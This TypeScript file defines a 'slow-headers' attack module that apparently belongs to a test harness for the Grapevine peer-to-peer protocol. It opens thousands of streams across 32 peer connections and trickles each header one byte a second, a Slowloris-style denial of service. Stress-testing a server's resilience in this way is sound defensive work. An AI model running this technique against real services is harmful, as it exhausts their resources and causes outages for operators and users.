import { topicIdFrom } from '@grapevine/api';
import { topicIdToBytes } from '@grapevine/proto';
import type { Attack } from '../attack.js';
import { frame, type RawPeer } from '../raw-peer.js';

/** Peers, and streams of each: as many as a connection may have. */
const PEERS = 32;
const STREAMS = 4_000;

/** Opens as many streams as it may, and says what they are about one byte a second (slow headers, as Slowloris sent them over HTTP). */
export const slowHeaders: Attack = {
  name: 'slow-headers',
  what: 'thousands of streams of 32 peers, whose headers come byte by byte',
  async run({ connect, signal, pause }) {
    const header = frame(topicIdToBytes(topicIdFrom('slow')));
    const one = async () => {
      while (!signal.aborted) {
        const peer = await connect().catch(() => undefined);
        if (peer) await trickle(peer, header, signal, pause).catch(() => {});
        else await pause(200);
        await peer?.close();
      }
    };
    await Promise.all(Array.from({ length: PEERS }, one));
  },
};

async function trickle(
  { connection }: RawPeer,
  header: Uint8Array,
  signal: AbortSignal,
  pause: (ms: number) => Promise<void>,
) {
  let isOver = false;
  void connection.closed.then(() => {
    isOver = true;
  });
  const streams = [];
  for (let i = 0; i < STREAMS && !isOver && !signal.aborted; i++) {
    const stream = await connection.openUni();
    stream.write(header.subarray(0, 1));
    streams.push(stream);
    if (i % 50 === 49) await pause(50); // more datagrams a second would be a flood of another kind
  }
  for (let at = 1; at < header.length - 1 && !isOver && !signal.aborted; at++) {
    for (const stream of streams) stream.write(header.subarray(at, at + 1));
    await pause(1_000);
  }
}
